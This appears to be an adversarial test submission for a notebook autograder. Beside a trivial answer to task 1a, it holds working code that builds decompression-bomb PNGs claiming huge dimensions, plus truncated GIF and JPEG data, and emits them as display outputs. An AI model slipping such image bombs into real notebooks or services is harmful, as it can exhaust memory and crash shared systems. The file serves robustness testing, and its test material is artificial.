# /// attack
# tries = "shows small pictures that claim, or unpack to, a billion pixels"
# sheet = "lehreinheit10"
# total = 1
# [parts]
# 1a = "right"
# ///

# %%
def aufgabe_1a(n_in, n_out, var_w, var_x):
    return n_in * var_w * var_x

# %%
import struct
import zlib

from IPython.display import publish_display_data


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(side, rows):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    packed = zlib.compress(bytes(side // 8 + 1) * rows, 9)
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


# %% aufgabe_1g
import base64

for picture in (png(30_000, 3_000), png(2**31 - 1, 1), png(4_000, 1), png(0, 0)):
    publish_display_data({"image/png": base64.b64encode(picture).decode()})
publish_display_data({"image/gif": base64.b64encode(b"GIF89a" + b"\xff" * 8 + b"\x21\xf9\x04" * 1000).decode()})
publish_display_data({"image/jpeg": base64.b64encode(b"\xff\xd8\xff\xc0\x00\x11\x08" + b"\xff" * 64).decode()})
